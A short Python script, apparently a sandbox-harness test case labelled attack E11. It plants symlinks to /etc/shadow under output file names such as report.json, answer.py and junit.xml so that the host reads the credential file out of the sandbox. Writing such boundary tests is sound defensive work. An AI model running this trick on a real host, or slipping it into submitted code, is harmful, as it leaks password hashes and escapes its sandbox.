"""Put links to the machine's files where somebody might look for a report.

attack: E11 have the host follow a link
guard: nothing is taken out of a sandbox but the stream
ending: exited
"""

import os

os.chmod("/workspace", 0o755)
for folder in ("/tmp", "/workspace"):
    for name in ("report.json", "answer.py", "results.xml", "junit.xml"):
        os.symlink("/etc/shadow", os.path.join(folder, name))
print("held")
